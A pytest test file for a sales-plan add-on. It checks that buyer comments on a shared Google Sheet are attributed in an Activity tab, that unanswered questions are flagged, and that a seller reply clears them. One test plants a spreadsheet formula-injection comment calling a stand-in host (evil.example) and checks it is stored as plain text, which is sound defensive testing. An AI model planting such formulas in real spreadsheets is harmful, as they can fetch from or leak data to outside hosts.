"""Issue 14 §3: a buyer comment appears in Activity, attributed, and an unanswered question
becomes a flag; a seller reply clears it. Through the stand-in and the real clients.

The buyer comments with google-api-python-client as the buyer user; the watch reads it with one
`comments.list` (Drive gives the author as a display name, matched to the deal's people); the
review, computed as of later days, flags the question after `question_unanswered_days` (2)
business days without a reply from the seller side.
"""

from __future__ import annotations

import json
import urllib.request
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from addon.config import Config
from addon.domain.businessdays import add_business_days
from addon.domain.plan_request import build_plan_request
from addon.services.consolidate import Consolidator
from addon.services.context import Services
from localgoogle.server import Running

QUESTION = 'Can our security team start the review before the MSA is signed? =HYPERLINK("x")'


class Deal:
    """A seller's plan shared with one buyer, watched by its own service account."""

    def __init__(self, local_google: Running, tmp_path: Path) -> None:
        tag = uuid.uuid4().hex[:8]
        self.url = local_google.url
        self.manager = f"morgan-{tag}@vendor.example"
        self.owner = f"sam-{tag}@vendor.example"
        self.buyer = f"ann-{tag}@acme.example"
        self.service_account = f"svc-{tag}@map.example.com"
        teams = tmp_path / "teams.yaml"
        teams.write_text(f"teams:\n  - name: comments-{tag}\n    managers: [{self.manager}]\n")
        self.services = Services(
            Config.from_env(
                {
                    "MAP_LOCAL_GOOGLE_URL": local_google.url,
                    "MAP_DATA_DIR": str(tmp_path / "data"),
                    "MAP_SERVICE_ACCOUNT": self.service_account,
                    "MAP_TEAMS_FILE": str(teams),
                }
            )
        )
        today = datetime.now(UTC).date()
        request = build_plan_request(
            deal_name="Acme rollout",
            buyer_company="Acme",
            buyer_emails=[self.buyer],
            go_live=add_business_days(today, 80).isoformat(),
            template="mid-market",
            owner=self.owner,
            today=today,
        )
        created = self.services.creator.create(request)
        self.deal_id, self.sheet = created.deal_id, created.spreadsheet_id
        self.services.watcher.tick()  # starts the change feed (and reads the new plan once)

    def served(self) -> dict[str, int]:
        """Requests the stand-in served to the service account, by method."""
        with urllib.request.urlopen(f"{self.url}/_local/stats") as response:
            stats = json.loads(response.read())
        return dict(stats["by_user_method"].get(self.service_account, {}))

    def review(self, business_days_later: int) -> dict[str, Any]:
        """The team's review as of that many business days from today."""
        day = add_business_days(datetime.now(UTC).date(), business_days_later)
        (review,), _, _ = Consolidator(self.services, today=lambda: day).run()
        return review.frames


@pytest.fixture
def deal(local_google: Running, tmp_path: Path) -> Iterator[Deal]:
    built = Deal(local_google, tmp_path)
    yield built
    built.services.close()


def _values(sheets: Any, who: str, sheet: str, a1: str) -> list[list[Any]]:
    got = sheets(who).spreadsheets().values().get(spreadsheetId=sheet, range=a1).execute()
    return list(got.get("values", []))


def _flags(frames: dict[str, Any]) -> list[str]:
    risks = frames["Risks"]
    return list(risks.loc[risks["Risk"] == "Buyer question unanswered", "Evidence"])


def test_a_buyer_comment_is_attributed_in_activity_and_an_unanswered_question_is_flagged(
    deal: Deal, sheets: Any, drive: Any
) -> None:
    plan = _values(sheets, deal.buyer, deal.sheet, "Plan!A2:C60")
    step_id, step = next((row[0], row[2]) for row in plan if "ecurity" in row[2])
    asked = (
        drive(deal.buyer)
        .comments()
        .create(
            fileId=deal.sheet,
            body={"content": QUESTION, "quotedFileContent": {"value": step}},
            fields="id",
        )
        .execute()
    )

    before = deal.served()
    tick = deal.services.watcher.tick()
    after = deal.served()

    (event,) = [e for e in tick.events if e.kind.value == "comment_added"]
    assert (event.actor.email, event.actor.side, event.subject) == (deal.buyer, "buyer", step_id)
    assert event.details["comment_id"] == asked["id"]
    assert after.get("drive.comments.list", 0) - before.get("drive.comments.list", 0) == 1
    activity = _values(sheets, deal.owner, deal.sheet, "Activity!A2:H60")
    (row,) = [r for r in activity if r[7] == event.event_id]
    assert row[1:3] == [deal.buyer, "Buyer"]
    assert row[3].startswith(f'{deal.buyer.split("@")[0]} commented on {step}: "Can our')
    assert row[4] == step

    assert _flags(deal.review(1)) == []  # one business day: not yet
    later = deal.review(2)
    (evidence,) = _flags(later)
    assert "Can our security team start the review before the MSA" in evidence
    review_activity = later["Activity"]
    (shown,) = review_activity[review_activity["What"].str.contains("commented on")].to_dict(
        "records"
    )
    assert shown["Side"] == "Buyer" and shown["Who"] != "unknown"  # attributed, by name or email

    drive(deal.owner).replies().create(
        fileId=deal.sheet,
        commentId=asked["id"],
        body={"content": "Yes: we will send the questionnaire today."},
        fields="id",
    ).execute()
    answered = deal.review(3)  # the review's catch-up tick reads the reply
    assert _flags(answered) == []
    whats = list(answered["Activity"]["What"])
    assert any("replied to a comment" in what for what in whats)
    again = deal.services.watcher.tick()
    assert [e for e in again.events if e.kind.value.startswith("comment_")] == []


def test_someone_outside_the_deal_is_named_from_the_sharing_and_their_text_stays_text(
    deal: Deal, sheets: Any, drive: Any
) -> None:
    dana = f"dana-{uuid.uuid4().hex[:8]}@partner.example"
    drive(deal.owner).permissions().create(
        fileId=deal.sheet, body={"type": "user", "role": "commenter", "emailAddress": dana}
    ).execute()
    formula = '=IMPORTXML("http://evil.example","//a")'
    drive(dana).comments().create(
        fileId=deal.sheet, body={"content": formula}, fields="id"
    ).execute()

    before = deal.served()
    (event,) = [e for e in deal.services.watcher.tick().events if e.kind.value == "comment_added"]
    after = deal.served()

    # Not one of the deal's people: found by the name Google gives the people it is shared with.
    assert (event.actor.email, event.actor.side) == (dana, "unknown")
    assert after.get("drive.permissions.list", 0) - before.get("drive.permissions.list", 0) == 1
    got = (
        sheets(deal.owner)
        .spreadsheets()
        .values()
        .get(spreadsheetId=deal.sheet, range="Activity!A2:H60", valueRenderOption="FORMULA")
        .execute()["values"]
    )
    (row,) = [r for r in got if r[7] == event.event_id]
    assert row[6] == formula  # written RAW: the buyer's formula is text in the plan
    assert _flags(deal.review(5)) == []  # not the buyer's: no buyer question
